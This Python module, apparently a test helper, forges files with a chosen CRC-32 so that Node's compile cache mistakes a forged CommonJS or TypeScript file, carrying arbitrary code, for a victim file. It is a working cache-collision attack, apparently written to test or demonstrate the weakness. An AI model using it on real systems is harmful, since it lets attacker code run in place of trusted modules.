"""Texts with a chosen CRC-32, which make one file look like another in Node's compile cache."""

from __future__ import annotations

from pathlib import Path
from zlib import crc32

from esmcache.engines.node.compile_cache_layout import entry_name, module_entries
from esmcache.records import ModuleFormat
from program import Program

# Two letters that differ in one bit. The texts use more of them than the sum has bits, so that a solution exists.
_LETTERS = b"ac"
_NAME_LETTERS = 48
_TEXT_LETTERS = 64


def forged(before: bytes, letters: int, after: bytes, wanted: int) -> bytes:
    """Return `before`, that many letters, and `after`, with letters that make the CRC-32 of the whole `wanted`."""

    def text(chosen: int) -> bytes:
        return before + bytes(_LETTERS[chosen >> at & 1] for at in range(letters)) + after

    nothing = crc32(text(0))
    # CRC-32 is linear: the change that one letter causes does not depend on the other letters.
    rows: dict[int, tuple[int, int]] = {}
    for at in range(letters):
        change, choice = crc32(text(1 << at)) ^ nothing, 1 << at
        while change:
            bit = change.bit_length()
            if bit not in rows:
                rows[bit] = change, choice
                break
            change, choice = change ^ rows[bit][0], choice ^ rows[bit][1]
    rest, chosen = nothing ^ wanted, 0
    while rest:
        change, choice = rows[rest.bit_length()]
        rest, chosen = rest ^ change, chosen ^ choice
    answer = text(chosen)
    assert crc32(answer) == wanted
    return answer


def forge_commonjs(directory: Path, victim: Path, code: bytes) -> Path:
    """Write a CommonJS file into `directory` that Node's compile cache takes for `victim`, and return its path.

    The file has the victim's size and sum, its path has the sum of the victim's path, and it runs `code`.
    """
    name_sum = int(entry_name(ModuleFormat.COMMONJS, str(victim)), 16)
    path = forged(b"\0" + f"{directory}/".encode(), _NAME_LETTERS, b".cjs", name_sum)[1:].decode()
    _write_forgery(Path(path), victim, code)
    assert entry_name(ModuleFormat.COMMONJS, path) == entry_name(ModuleFormat.COMMONJS, str(victim))
    return Path(path)


def forge_typescript(directory: Path, victim: Path, code: bytes) -> Path:
    """Write a TypeScript file for whose text without types Node's compile cache takes that of `victim`."""
    (_, stripped) = typescript_entries(victim)
    before = b"\2" + f"{directory.as_uri()}/".encode()
    url = forged(before, _NAME_LETTERS, b".ts", int(stripped, 16))[1:].decode()
    path = directory / url.rpartition("/")[2]
    _write_forgery(path, victim, code)
    assert typescript_entries(path)[1] == stripped
    return path


def typescript_entries(path: Path) -> tuple[str, str]:
    """Return the names of the code cache and of the text without types of an ES module of TypeScript."""
    entries = module_entries(ModuleFormat.MODULE_TYPESCRIPT, path.as_uri(), str(path), strips=1, keeps_stripped=True)
    return entries[0].name, entries[1].name


def tool_with_configuration(directory: Path, like: Program) -> Program:
    """Return a tool that is installed in `directory`, and that loads and prints the file that its argument names."""
    tool = Program(directory / "node_modules" / "tool", like.node, like.home, entry="cli.mjs")
    tool.write(
        {
            "package.json": '{"name": "tool", "version": "1.0.0", "bin": "./cli.mjs"}',
            "cli.mjs": "import { pathToFileURL } from 'node:url';\n"
            "const { default: config } = await import(pathToFileURL(process.argv[2]).href);\nconsole.log(config);\n",
        }
    )
    return tool


def _write_forgery(path: Path, victim: Path, code: bytes) -> None:
    original = victim.read_bytes()
    head, tail = code + b" // ", b"\n"
    filling = len(original) - len(head) - len(tail) - _TEXT_LETTERS
    assert filling >= 0, "the victim is too short"
    forgery = forged(head + b"x" * filling, _TEXT_LETTERS, tail, crc32(original))
    path.parent.mkdir(parents=True, exist_ok=True)
    path.write_bytes(forgery)
